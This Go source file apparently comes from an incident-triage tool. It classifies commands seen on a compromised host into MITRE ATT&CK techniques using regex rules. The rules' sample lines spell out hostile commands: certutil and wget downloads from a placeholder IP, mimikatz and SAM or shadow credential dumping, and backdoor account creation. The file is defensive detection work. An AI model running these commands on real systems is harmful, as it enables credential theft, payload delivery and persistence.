package triage

// ATT&CK techniques: what the steps of a chain and the commands that were run are called.
//
// Only what was seen is named: an injection is T1190, a request to a script that ranks as a shell T1505.003, a
// command what its first words say. Names and meanings are those of MITRE ATT&CK 18.1; each technique's page is
// attackPage of its id. © 2025 The MITRE Corporation. This work is reproduced and distributed with the permission
// of The MITRE Corporation.

import (
	"regexp"
	"slices"
	"strings"
)

// attackPage is the page that describes a technique.
func attackPage(id string) string {
	return "https://attack.mitre.org/techniques/" + strings.ReplaceAll(id, ".", "/") + "/"
}

// techniqueNames are the names of the techniques that spoor gives.
var techniqueNames = map[string]string{
	"T1003":     "OS Credential Dumping",
	"T1005":     "Data from Local System",
	"T1007":     "System Service Discovery",
	"T1012":     "Query Registry",
	"T1016":     "System Network Configuration Discovery",
	"T1018":     "Remote System Discovery",
	"T1021.002": "SMB/Windows Admin Shares",
	"T1033":     "System Owner/User Discovery",
	"T1047":     "Windows Management Instrumentation",
	"T1049":     "System Network Connections Discovery",
	"T1053":     "Scheduled Task/Job",
	"T1057":     "Process Discovery",
	"T1059":     "Command and Scripting Interpreter",
	"T1059.001": "PowerShell",
	"T1059.003": "Windows Command Shell",
	"T1059.004": "Unix Shell",
	"T1069":     "Permission Groups Discovery",
	"T1070.004": "File Deletion",
	"T1070.006": "Timestomp",
	"T1082":     "System Information Discovery",
	"T1083":     "File and Directory Discovery",
	"T1087":     "Account Discovery",
	"T1098":     "Account Manipulation",
	"T1105":     "Ingress Tool Transfer",
	"T1110":     "Brute Force",
	"T1135":     "Network Share Discovery",
	"T1136":     "Create Account",
	"T1140":     "Deobfuscate/Decode Files or Information",
	"T1190":     "Exploit Public-Facing Application",
	"T1213.006": "Databases",
	"T1222":     "File and Directory Permissions Modification",
	"T1505.003": "Web Shell",
	"T1552.001": "Credentials In Files",
	"T1560.001": "Archive via Utility",
	"T1595.002": "Vulnerability Scanning",
	"T1595.003": "Wordlist Scanning",
}

// A knownCommand gives a command its technique. It is tried on each of simpleCommands.
type knownCommand struct {
	ID        string // unique, never reused
	Technique string // its source is attackPage
	Pattern   string
	Hit, Miss []string // whole lines that it names and does not name
	re        *regexp.Regexp
}

// knownCommands are the commands that intruders run first on a machine, as the techniques' pages and the guides to
// the tools describe them. An interpreter has a rule of its own besides what it is told to do.
var knownCommands = compileCommands([]knownCommand{
	{ID: "cmd-windows-shell", Technique: "T1059.003", Pattern: `^cmd(?: |$)`, Hit: []string{`cmd /c "whoami"`, `C:\Windows\System32\cmd.exe`}, Miss: []string{"cmdkey /list"}},
	{ID: "cmd-powershell", Technique: "T1059.001", Pattern: `^(?:powershell|pwsh)(?: |$)`, Hit: []string{"powershell -nop -w hidden -c x"}, Miss: []string{"echo powershell"}},
	{ID: "cmd-unix-shell", Technique: "T1059.004", Pattern: `^(?:ba|da|z|k|c)?sh(?: |$)`, Hit: []string{"/bin/sh -c id", "bash -i"}, Miss: []string{"shutdown -r", "show x"}},
	{ID: "cmd-user", Technique: "T1033", Pattern: `^(?:whoami|quser|qwinsta|id|who|w|last|query user)(?: |$)`, Hit: []string{"whoami /all", "cd /d c:\\x & whoami", "id"}, Miss: []string{"identify a.png", "wc -l"}},
	{ID: "cmd-list-files", Technique: "T1083", Pattern: `^(?:dir|ls|ll|tree|find|locate|where|forfiles|get-childitem|gci)(?: |/|\\|\.|$)`, Hit: []string{`dir c:\inetpub`, "ls -la", "find / -name x"}, Miss: []string{"cd /tmp", "lsof -i", "direct"}},
	{ID: "cmd-read-file", Technique: "T1005", Pattern: `^(?:type|cat|more|less|head|tail|get-content|gc|strings) \S`, Hit: []string{`type c:\x\web.config`, "cat /etc/passwd"}, Miss: []string{"cat", "typeperf x"}},
	{ID: "cmd-network-config", Technique: "T1016", Pattern: `^(?:ipconfig|ifconfig|ip (?:a|addr|r|route|link)|route print|route$|nbtstat|getmac|hostname -i|netsh interface|arp|nslookup|resolvectl)(?: |$)`, Hit: []string{"ipconfig /all", "ip a", "arp -a"}, Miss: []string{"ip", "routes"}},
	{ID: "cmd-connections", Technique: "T1049", Pattern: `^(?:netstat|ss|net sessions?|net use|lsof -i)(?: |$)`, Hit: []string{"netstat -ano", "ss -tlnp"}, Miss: []string{"ssh host"}},
	{ID: "cmd-remote-systems", Technique: "T1018", Pattern: `^(?:net1? view|net1? group "?domain (?:computers|controllers)|nltest|ping|fping|nmap|arp -a|dsquery computer)(?: |"|$)`, Hit: []string{"net view /domain", "ping -n 1 10.0.0.1", `net group "domain controllers" /domain`}, Miss: []string{"net user"}},
	{ID: "cmd-accounts", Technique: "T1087", Pattern: `^(?:net1? (?:user|accounts)(?: |$)|wmic useraccount|get-localuser|get-aduser|dsquery user|getent passwd|(?:cat|type|head|tail|less|more) /etc/passwd)`, Hit: []string{"net user", "net user /domain", "cat /etc/passwd"}, Miss: []string{"net use"}},
	{ID: "cmd-groups", Technique: "T1069", Pattern: `^(?:net1? (?:local)?group(?: |$)|groups(?: |$)|get-localgroup|getent group)`, Hit: []string{"net localgroup administrators", "groups"}, Miss: []string{"net user"}},
	{ID: "cmd-system", Technique: "T1082", Pattern: `^(?:systeminfo|uname|ver|hostname|lsb_release|wmic (?:os|computersystem|cpu)|set|env|printenv|cat /etc/(?:os-release|issue)|cat /proc/version|fsutil fsinfo|df|mount)(?: |$)`, Hit: []string{"systeminfo", "uname -a", "ver"}, Miss: []string{"verify x", "settle"}},
	{ID: "cmd-processes", Technique: "T1057", Pattern: `^(?:tasklist|ps|top|wmic process|get-process|query process|qprocess)(?: |$)`, Hit: []string{"tasklist /svc", "ps aux"}, Miss: []string{"psql -l"}},
	{ID: "cmd-services", Technique: "T1007", Pattern: `^(?:sc (?:query|qc)|net1? start$|tasklist /svc|wmic service|systemctl (?:list|status)|service --status-all|get-service)`, Hit: []string{"sc query", "net start"}, Miss: []string{"net start spooler"}},
	{ID: "cmd-shares", Technique: "T1135", Pattern: `^(?:net1? share|net1? view \\\\|showmount|smbclient -l)`, Hit: []string{"net share", `net view \\srv`}, Miss: []string{"net use"}},
	{ID: "cmd-registry", Technique: "T1012", Pattern: `^reg query `, Hit: []string{`reg query HKLM\Software`}, Miss: []string{"reg add x"}},
	{ID: "cmd-credentials", Technique: "T1003", Pattern: `mimikatz|sekurlsa|lsadump|^procdump.*lsass|comsvcs\.dll.*minidump|^reg save hklm\\(?:sam|security|system)|ntds\.dit|^(?:cat|less|more|head|tail|cp) /etc/shadow|^(?:gsecdump|pwdump|wce)(?: |\d|$)`,
		Hit: []string{`m.exe "sekurlsa::logonpasswords"`, `reg save hklm\sam s.hiv`, "cat /etc/shadow"}, Miss: []string{"tasklist /fi lsass", `reg query hklm\system`}},
	{ID: "cmd-passwords-in-files", Technique: "T1552.001", Pattern: `^(?:findstr|grep|select-string|egrep|rg) .*passw|^(?:type|cat|get-content|more|less) .*(?:web\.config|wp-config\.php|\.env|database\.yml|unattend\.xml|\.pgpass|\.my\.cnf)`,
		Hit: []string{"findstr /si password *.xml", "cat ../wp-config.php"}, Miss: []string{"grep error x.log"}},
	{ID: "cmd-transfer", Technique: "T1105", Pattern: `^certutil .*-(?:urlcache|verifyctl)|^bitsadmin .*/transfer|^(?:wget|fetch|lwp-download) |^curl .*(?:-o|--output|-O|>|\|)|invoke-webrequest|\biwr |downloadfile|downloadstring|start-bitstransfer|^(?:tftp|scp|sftp|ftp) |^copy \\\\`,
		Hit: []string{"certutil -urlcache -split -f http://198.51.100.9/a a.exe", "wget http://198.51.100.9/x -O /tmp/x", "curl -s http://198.51.100.9/x -o y", `copy \\srv\c$\a.exe .`}, Miss: []string{"certutil -hashfile a", "curl -I http://localhost/"}},
	{ID: "cmd-archive", Technique: "T1560.001", Pattern: `^(?:rar|winrar|7z|7za|7zr|zip|makecab|tar|gzip|compress-archive|xz|bzip2)(?: |$)|^(?:\S+ )?a (?:-\S+ )*\S+\.(?:rar|7z|zip)\b`, Hit: []string{`rar a -hpX c:\temp\o.rar d:\data`, "tar czf /tmp/o.tgz /var/www", "r.exe a -m5 o.rar x"}, Miss: []string{"tart", "unzip a.zip"}},
	{ID: "cmd-decode", Technique: "T1140", Pattern: `^certutil .*-decode|^base64 (?:-d|--decode)|^expand |^(?:unzip|unrar) `, Hit: []string{"certutil -decode a.txt a.exe", "base64 -d x"}, Miss: []string{"base64 x"}},
	{ID: "cmd-delete", Technique: "T1070.004", Pattern: `^(?:del|erase|rm|rmdir|rd|unlink|shred|remove-item) \S`, Hit: []string{`del c:\temp\o.rar`, "rm -f /tmp/x"}, Miss: []string{"delta x", "rm"}},
	{ID: "cmd-timestomp", Technique: "T1070.006", Pattern: `^touch .*(?:-r|-t|-d|--reference|--date)\b|\.(?:lastwritetime|creationtime) ?=`, Hit: []string{"touch -r index.php up.php"}, Miss: []string{"touch x"}},
	{ID: "cmd-account-new", Technique: "T1136", Pattern: `^net1? user .*/add|^(?:useradd|adduser) |^new-localuser`, Hit: []string{"net user support P4ss /add"}, Miss: []string{"net user support"}},
	{ID: "cmd-account-rights", Technique: "T1098", Pattern: `^net1? (?:local)?group .*/add|^usermod .*-a?g`, Hit: []string{"net localgroup administrators support /add"}, Miss: []string{"net localgroup"}},
	{ID: "cmd-schedule", Technique: "T1053", Pattern: `^schtasks .*/(?:create|change|run)|^at (?:\d|now|\\\\)|^crontab(?: -e| -$| /|$)`, Hit: []string{"schtasks /create /tn x /tr y", "crontab /tmp/c"}, Miss: []string{"attrib +h x", "crontab -l", "schtasks /query"}},
	{ID: "cmd-admin-shares", Technique: "T1021.002", Pattern: `^net1? use .*\\\\|^psexec|^copy .* \\\\[^ ]+\\[a-z]\$`, Hit: []string{`net use \\10.0.0.5\c$ pw /user:adm`}, Miss: []string{"net use"}},
	{ID: "cmd-wmi", Technique: "T1047", Pattern: `^wmic(?: |$)|invoke-wmimethod|^wmiexec`, Hit: []string{"wmic /node:10.0.0.5 process call create x"}, Miss: []string{"wm x"}},
	{ID: "code-list-files", Technique: "T1083", Pattern: `^(?:opendir|readdir|scandir|glob|getdirectories|getfiles|getfolder|directoryinfo)(?: |\(|$)`, Hit: []string{"opendir /var/www/"}, Miss: []string{"openssl"}},
	{ID: "code-read-file", Technique: "T1005", Pattern: `^(?:fread|readfile|file_get_contents|streamreader|opentextfile|readalltext)(?: |\(|$)`, Hit: []string{"fread /etc/hostname"}, Miss: []string{"freadx"}},
	{ID: "code-write-file", Technique: "T1105", Pattern: `^(?:fwrite|fputs|file_put_contents|move_uploaded_file|writealltext|streamwriter|savetofile)(?: |\(|$)`, Hit: []string{"fwrite /tmp/x.php"}, Miss: []string{"fputsx y"}},
	{ID: "code-delete", Technique: "T1070.004", Pattern: `^(?:unlink|deletefile)(?: |\()`, Hit: []string{"unlink /tmp/x"}, Miss: []string{"link /tmp/x"}},
	{ID: "cmd-permissions", Technique: "T1222", Pattern: `^(?:chmod|chown|icacls|cacls|attrib|takeown) \S`, Hit: []string{"chmod 755 /tmp/x", "attrib +h up.aspx"}, Miss: []string{"chmod"}},
})

func compileCommands(rules []knownCommand) []knownCommand {
	for i := range rules {
		rules[i].re = regexp.MustCompile("(?i)" + rules[i].Pattern)
	}
	return rules
}

// maxCommandText is how many bytes of a command are looked at.
const maxCommandText = 4096

// commandTechniques are the techniques of a command line, sorted; nil if none is known.
func commandTechniques(line string) []string {
	var out []string
	for _, part := range simpleCommands(line) {
		for i := range knownCommands {
			if r := &knownCommands[i]; !slices.Contains(out, r.Technique) && r.re.MatchString(part) {
				out = append(out, r.Technique)
			}
		}
	}
	slices.Sort(out)
	return out
}

// simpleCommands are what a line typed into a shell runs, at most 2*maxCommands, each with a bare first word, in lower case; what an
// interpreter is told to run follows the interpreter.
func simpleCommands(line string) []string {
	line = cutText(line, maxCommandText)
	var out []string
	for _, escape := range []byte{'^', '\\'} { // cmd.exe, and shells of Unix, which also take ";" for an end
		c := commander{}
		c.script(line, escape, 1)
		for _, x := range c.out {
			if s := strings.TrimSpace(x.name + " " + strings.Trim(x.args, `"' `)); !slices.Contains(out, s) {
				out = append(out, s)
			}
		}
	}
	return out
}

// techniqueSet gathers techniques with what shows them.
type techniqueSet map[string]*Technique

func (t techniqueSet) add(id, why string, refs ...string) {
	x := t[id]
	if x == nil {
		x = &Technique{ID: id, Name: techniqueNames[id], Why: why, Source: attackPage(id), Refs: []string{}}
		t[id] = x
	}
	for _, r := range refs {
		if r != "" && len(x.Refs) < MaxRefs && !slices.Contains(x.Refs, r) {
			x.Refs = append(x.Refs, r)
		}
	}
}

// list is the techniques by id.
func (t techniqueSet) list() []Technique {
	out := []Technique{}
	for _, id := range sortedKeys(t) {
		out = append(out, *t[id])
	}
	return out
}
